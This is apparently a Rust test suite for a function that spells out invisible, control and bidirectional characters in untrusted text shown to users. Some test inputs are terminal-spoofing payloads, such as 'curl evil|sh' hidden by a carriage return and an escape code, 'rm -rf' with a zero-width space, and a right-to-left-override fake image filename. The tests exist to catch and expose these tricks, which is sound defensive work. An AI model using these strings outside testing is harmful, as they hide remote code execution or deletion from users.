use std::sync::LazyLock;

use icu_properties::props::{DefaultIgnorableCodePoint, GeneralCategory as Is};
use icu_properties::{CodePointMapData, CodePointSetData};
use proptest::prelude::*;

use super::*;
use crate::Source;
use crate::Untrusted;

fn one(text: &str) -> String {
    spell_out(text, Lines::One)
}

fn many(text: &str) -> String {
    spell_out(text, Lines::Many)
}

/// For each character whether it may be on a screen, from tables that this crate does not use; line breaks may not.
static ALPHABET: LazyLock<Vec<bool>> = LazyLock::new(|| {
    let category = CodePointMapData::<Is>::new();
    let ignorable = CodePointSetData::new::<DefaultIgnorableCodePoint>();
    (0..=0x0010_ffff)
        .map(|c| {
            let no_ink = match category.get32(c) {
                Is::Control
                | Is::Format
                | Is::LineSeparator
                | Is::ParagraphSeparator
                | Is::PrivateUse
                | Is::Surrogate
                | Is::Unassigned => true,
                Is::SpaceSeparator => c != 0x20,
                _ => matches!(c, 0x2800 | 0xfffc) || ignorable.contains32(c),
            };
            !no_ink
        })
        .collect()
});

fn is_line(shown: &str) -> bool {
    shown.chars().all(|c| ALPHABET[c as usize])
}

fn is_prose(shown: &str) -> bool {
    shown.chars().all(|c| c == '\n' || ALPHABET[c as usize])
}

/// Reads one line back into the text that it shows.
fn read_back(shown: &str) -> String {
    let mut text = String::new();
    let mut rest = shown;
    while let Some((before, spelled)) = rest.split_once('⟨') {
        text.push_str(before);
        let (name, after) = spelled.split_once('⟩').expect("every bracket closes");
        if let Some(code) = name.strip_prefix("U+") {
            text.push(char::from_u32(u32::from_str_radix(code, 16).unwrap()).unwrap());
        } else {
            let count = name.strip_prefix("␠×").expect("a code or a count").parse().unwrap();
            text.extend(std::iter::repeat_n(' ', count));
        }
        rest = after;
    }
    text + rest
}

#[test]
fn one_line_shows_what_is_there() {
    for (text, shown) in [
        ("", ""),
        ("Nextcloud 31", "Nextcloud 31"),
        ("Музыка, 音楽, موسيقى, ☕", "Музыка, 音楽, موسيقى, ☕"),
        // Rows 23 to 25 of the reports: a carriage return and an escape, a zero-width space, other invisible ones.
        ("curl evil|sh\r\u{1b}[2K command: ls -la", "curl evil|sh⟨U+000D⟩⟨U+001B⟩[2K command: ls -la"),
        ("rm\u{200b} -rf", "rm⟨U+200B⟩ -rf"),
        ("a\u{e0100}\u{1d173}\u{1bca0}b", "a⟨U+E0100⟩⟨U+1D173⟩⟨U+1BCA0⟩b"),
        ("ok\u{e0069}\u{e0067}", "ok⟨U+E0069⟩⟨U+E0067⟩"),
        ("photo\u{202e}gpj.exe", "photo⟨U+202E⟩gpj.exe"),
        ("one\ntwo\u{2028}three\tfour", "one⟨U+000A⟩two⟨U+2028⟩three⟨U+0009⟩four"),
        ("a\u{a0}b\u{3000}c\u{2800}d", "a⟨U+00A0⟩b⟨U+3000⟩c⟨U+2800⟩d"),
        ("\u{e000}\u{378}\u{fffc}", "⟨U+E000⟩⟨U+0378⟩⟨U+FFFC⟩"),
        ("a b  c   d", "a b⟨␠×2⟩c⟨␠×3⟩d"),
        ("  2", "⟨␠×2⟩2"),
        (" a ", " a "),
        // Canonical equivalents are one text.
        ("e\u{301}", "é"),
        ("\u{2126}", "Ω"),
        // Two marks of a kind on a letter; none on nothing, on a space or on what is spelled out.
        ("n\u{320}\u{321}\u{322}\u{323}", "n\u{321}\u{322}⟨U+0320⟩⟨U+0323⟩"),
        ("\u{336}x \u{336}", "⟨U+0336⟩x ⟨U+0336⟩"),
        ("\u{200d}\u{336}", "⟨U+200D⟩⟨U+0336⟩"),
        ("ज़िंदगी", "ज\u{93c}िंदगी"),
        ("क\u{93e}\u{93e}\u{93e}", "क\u{93e}\u{93e}⟨U+093E⟩"),
        // The spelling's own signs.
        ("⟨U+200B⟩", "⟨U+27E8⟩U+200B⟨U+27E9⟩"),
        ("⟨␠×2⟩", "⟨U+27E8⟩⟨U+2420⟩×2⟨U+27E9⟩"),
    ] {
        assert_eq!(one(text), shown, "{text:?}");
    }
}

#[test]
fn prose_keeps_lines_and_indents() {
    for (text, shown) in [
        ("one\n\n  two\tthree", "one\n\n  two three"),
        ("a\r\nb\u{85}c", "a⟨U+000D⟩\nb⟨U+0085⟩c"),
        ("x        y", "x        y"),
        ("x         y", "x⟨␠×9⟩y"),
        ("\t\t\t\t\t\t\t\t\ty", "⟨␠×9⟩y"),
        ("a\n\u{301}b", "a\n⟨U+0301⟩b"),
        ("⟨U+200B⟩\u{301}", "⟨U+200B⟩⟨U+0301⟩"),
    ] {
        assert_eq!(many(text), shown, "{text:?}");
    }
}

#[test]
fn every_character_alone_and_between_letters_stays_in_the_alphabet() {
    for c in '\0'..=char::MAX {
        let mut buffer = [0; 4];
        let alone: &str = c.encode_utf8(&mut buffer);
        for text in [alone, &format!("a{alone}b")] {
            let (line, prose) = (one(text), many(text));
            let at = u32::from(c);
            assert!(is_line(&line), "U+{at:04X} in a line: {line:?}");
            assert!(is_prose(&prose), "U+{at:04X} in prose: {prose:?}");
            assert_eq!(prose.contains('\n'), c == '\n', "U+{at:04X} breaks a line");
            assert_eq!(
                read_back(&line),
                text.nfc().collect::<String>(),
                "U+{at:04X} reads as something else"
            );
        }
    }
}

/// Text made of what goes wrong: brackets, spaces, marks, controls, invisible ones, and anything.
fn nasty() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        prop::sample::select(vec![
            " ",
            "  ",
            "         ",
            "\t",
            "\n",
            "\r\n",
            "⟨",
            "⟩",
            "␠",
            "×",
            "U+200B",
            "2",
            "a",
            "e",
            "ज",
            "ा",
            "ि",
            "\u{93c}",
            "\u{301}",
            "\u{323}",
            "\u{338}",
            ">",
            "\u{20e3}",
            "\u{200b}",
            "\u{202e}",
            "\u{fe0f}",
            "\u{a0}",
            "\u{1100}",
            "\u{1161}",
            "\u{11a8}",
            "\u{2329}",
            "⟨U+0020⟩",
            "⟨␠×3⟩",
        ])
        .prop_map(str::to_owned),
        any::<char>().prop_map(String::from),
    ];
    prop::collection::vec(piece, 0..24).prop_map(|pieces| pieces.concat())
}

proptest! {
    #[test]
    fn a_line_shows_every_difference(text in nasty()) {
        let shown = one(&text);
        prop_assert!(is_line(&shown), "{:?}", shown);
        prop_assert_eq!(read_back(&shown), text.nfc().collect::<String>());
    }

    #[test]
    fn what_is_shown_passes_prose_unchanged(text in nasty()) {
        let (line, prose) = (one(&text), many(&text));
        prop_assert!(is_prose(&prose), "{:?}", prose);
        prop_assert_eq!(&many(&prose), &prose);
        prop_assert_eq!(&many(&line), &line);
    }

    #[test]
    fn no_character_carries_a_tower_of_marks(text in nasty()) {
        let category = CodePointMapData::<Is>::new();
        for shown in [one(&text), many(&text)] {
            let (mut stacked, mut beside, mut bears) = (0, 0, false);
            for c in shown.chars() {
                match category.get(c) {
                    Is::NonspacingMark | Is::EnclosingMark => stacked += 1,
                    Is::SpacingMark => beside += 1,
                    _ => (stacked, beside, bears) = (0, 0, !" \n⟨⟩␠".contains(c)),
                }
                prop_assert!(stacked <= 2 && beside <= 2 && (bears || stacked + beside == 0), "{:?}", shown);
            }
        }
    }
}

#[test]
fn plain_text_takes_the_short_way_to_the_same_place() {
    for text in ["", " ", "a b", "a  b", "a\tb", "a\nb", "a\u{7f}b", "x        y", "x         y", "~!"] {
        for lines in [Lines::One, Lines::Many] {
            // The last character forces the long way.
            let long = spell_out(&format!("{text}é"), lines);
            assert_eq!(spell_out(text, lines) + "é", long, "{text:?}");
        }
    }
}

#[test]
fn free_text_is_set_apart_and_cannot_speak_for_the_node() {
    let log = Untrusted::new("started\n  | ok\r\nAll is well.", Source::Log("nextcloud".into()));
    let said = Sentence::plain("It says:").and(Sentence::others(log)).and("Restart it?");
    assert_eq!(
        sentence(&said).as_str(),
        "It says:\n  | started\n  | ⟨␠×2⟩| ok⟨U+000D⟩\n  | All is well.\nRestart it?"
    );
    assert_eq!(
        one_line(&said).as_str(),
        "It says:started⟨U+000A⟩⟨␠×2⟩| ok⟨U+000D⟩⟨U+000A⟩All is well.Restart it?"
    );
}

#[test]
fn a_name_cannot_bring_a_line_or_a_mark_onto_the_words_before_it() {
    let name = Untrusted::new("\u{338}x\nDone.", Source::AppName);
    let said = Sentence::plain("Restart:\n").and(Sentence::others(name));
    assert_eq!(sentence(&said).as_str(), "Restart:\n⟨U+0338⟩x⟨U+000A⟩Done.");
}

#[test]
fn a_stored_line_that_was_tampered_with_is_spelled_out_when_read() {
    let shown: Shown = serde_json::from_str("\"a\u{202e}b\\u0007\"").unwrap();
    assert_eq!(shown.as_str(), "a⟨U+202E⟩b⟨U+0007⟩");
    let line = Shown::line("x  y\u{200b}⟨");
    let stored = serde_json::to_string(&line).unwrap();
    assert_eq!(serde_json::from_str::<Shown>(&stored).unwrap(), line);
}
